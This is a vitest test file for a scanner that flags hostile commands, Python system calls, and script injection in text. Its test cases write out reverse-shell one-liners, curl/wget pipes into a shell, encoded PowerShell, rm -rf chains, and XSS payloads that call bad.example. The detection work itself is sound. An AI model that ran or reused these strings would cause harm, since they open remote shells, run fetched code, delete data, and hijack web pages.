import { describe, expect, test } from "vitest";
import { findPythonCalls, findSettingCommands, findShellCommands } from "../../src/scanners/commands.js";

describe("shell commands that only an attack needs", () => {
  test.each([
    ["nc -e /bin/sh 127.0.0.1 9", "reverse shell"],
    ["ncat 10.0.0.1 4444 -e /bin/bash", "reverse shell"],
    ["bash -i >& /dev/tcp/203.0.113.7/4444 0>&1", "reverse shell"],
    ["mkfifo /tmp/f; cat /tmp/f | nc 203.0.113.7 1", "reverse shell"],
    ["curl -s http://203.0.113.7/x | sh", "download and run"],
    ["wget -qO- https://e/x | sudo bash", "download and run"],
    ["curl https://e/x.py | python3 -", "download and run"],
    ['bash -c "$(curl -fsSL https://e/install.sh)"', "download and run"],
    ["powershell -nop -enc SQBFAFgAIAAoAE4AZQB3AC0A", "encoded command"],
    ["echo aWQ= | base64 -d | sh", "encoded command"],
  ])("%s", (text, kind) => {
    expect(findShellCommands(text).map((found) => found.kind)).toContain(kind);
  });

  test.each([
    "curl -L -o weights.bin https://example.org/w && sha256sum weights.bin",
    "apt-get update && apt-get install -y curl",
    "nc = number of classes",
    "base64 -d file > out",
    "The bash shell is fun -- see /dev/null",
  ])("%s is none", (text) => {
    expect(findShellCommands(text)).toEqual([]);
  });
});

describe("Python that reaches for the system", () => {
  test.each([
    "__import__('os').system('id')",
    "os.system('id')",
    "subprocess.Popen(['id'])",
    "exec(base64.b64decode('aWQ='))",
  ])("%s", (text) => {
    expect(findPythonCalls(text)).toHaveLength(1);
  });

  test.each(["model.eval()", "evaluates (the) system", "pos.system (x)", "runs on any operating system"])(
    "%s is none",
    (text) => {
      expect(findPythonCalls(text)).toEqual([]);
    },
  );
});

describe("a setting that is a command or a page's script", () => {
  test.each([
    ["rm -rf /tmp/test && wget http://bad.example/script.sh", "shell command"],
    ["sudo rm -r -f models", "shell command"],
    ["chmod 777 /tmp/x; ./x", "shell command"],
    ["<script>document.location='http://bad.example'</script>", "script of a page"],
    ['<SCRIPT type="module" src="//bad.example/x.js">', "script of a page"],
    ["<img src=x onerror=alert(1)>", "script of a page"],
    ["<svg/onload=fetch('//bad.example')>", "script of a page"],
  ])("%s", (text, kind) => {
    expect(findSettingCommands(text).map((found) => found.kind)).toEqual([kind]);
  });

  test.each([
    "<script>",
    "a rm -rf b",
    "rm -rf is a command",
    "chmod 644 model.bin",
    '<img src="https://example.org/logo.png" alt="on (logo)">',
    "<b>Model</b> of <a href='https://example.org/on=1(2)'>us</a>",
    "<image> on =(x)",
  ])("%s is none", (text) => {
    expect(findSettingCommands(text)).toEqual([]);
  });
});
